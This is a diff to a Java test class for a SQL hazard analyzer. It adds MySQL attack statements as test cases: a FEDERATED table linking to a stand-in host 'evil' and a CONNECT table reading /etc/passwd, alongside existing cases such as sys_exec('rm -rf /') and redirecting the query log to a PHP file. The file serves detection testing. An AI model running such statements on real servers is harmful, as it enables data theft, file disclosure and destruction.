@@ -286,6 +286,10 @@ class SqlAnalyzerAttackTest {
                 my("SET GLOBAL general_log = 'ON'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                 my("SET @@global.general_log_file = '/var/www/x.php'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                 my("SET PERSIST max_connections = 1").type(OTHER).hazards(SYSTEM_CONFIGURATION),
+                my("CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://evil/db/t'").type(CREATE)
+                        .written("f").hazards(NETWORK_LINK),
+                my("CREATE TABLE f (line TEXT) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='/etc/passwd'").type(CREATE)
+                        .hazards(NETWORK_LINK, SERVER_FILE).unparseable(),
                 my("SELECT sys_exec('rm -rf /')").type(OTHER).hazards(PROGRAM_EXECUTION),
                 my("SELECT sys_eval('id')").type(OTHER).hazards(PROGRAM_EXECUTION),
                 my("SET ROLE admin").type(OTHER).hazards(IDENTITY_SWITCH),
